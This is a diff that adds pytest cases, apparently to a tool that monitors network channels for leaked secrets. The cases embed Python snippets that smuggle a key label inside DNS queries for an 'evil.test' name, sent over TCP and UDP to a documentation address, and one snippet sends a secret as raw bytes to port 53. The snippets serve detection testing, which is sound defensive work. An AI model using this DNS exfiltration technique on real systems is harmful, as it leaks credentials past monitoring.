@@ -364,3 +364,28 @@ def test_connections_left_open_at_the_end_hold_nothing_up(measure: Measure) -> N
     assert seen.exit.clean
     assert sorted(e.action for e in seen.on("bytes", "handshake")) == ["bytes", "handshake"]
     assert seen.secret_left is CheckState.MET
+
+
+def test_names_are_looked_up_over_tcp_and_other_ports_too(measure: Measure) -> None:
+    code = (
+        "import socket, struct\n"
+        "labels = ('PINE-77-OAK-11', 'evil', 'test')\n"
+        "q = b''.join(bytes([len(x)]) + x.encode() for x in labels) + b'\\0' + struct.pack('!2H', 1, 1)\n"
+        "q = struct.pack('!6H', 7, 256, 1, 0, 0, 0) + q\n"
+        "s = socket.create_connection(('192.0.2.53', 53)); s.settimeout(30)\n"
+        "s.sendall(struct.pack('!H', len(q)) + q[:9]); s.sendall(q[9:] + struct.pack('!H', len(q)) + q)\n"
+        "for _ in range(2): print(s.recv(2 + int.from_bytes(s.recv(2), 'big') - 2, socket.MSG_WAITALL)[-4:])\n"
+        "u = socket.socket(2, 2); u.settimeout(30); u.sendto(q, ('192.0.2.53', 5353)); print(u.recv(999)[-4:])"
+    )
+    seen = measure(*python(code))
+    assert seen.output.splitlines() == ["b'\\xc6\\x12\\x00\\x01'"] * 3
+    found = [e for e in seen.effects if e.channel is Channel.DNS]
+    assert [(e.action, e.detail["carries"]) for e in found] == [("resolve", ["key"])] * 3
+    assert seen.channels[Channel.HTTP].state is ChannelState.OBSERVED
+
+
+def test_what_is_no_look_up_on_its_port_is_recorded_as_bytes(measure: Measure) -> None:
+    code = f"import socket; s = socket.create_connection(('192.0.2.53', 53)); s.sendall(b'{SECRET}')"
+    seen = measure(*python(code))
+    assert [e.action for e in seen.effects if e.channel is Channel.DNS] == ["bytes"]
+    assert seen.secret_left is CheckState.MET
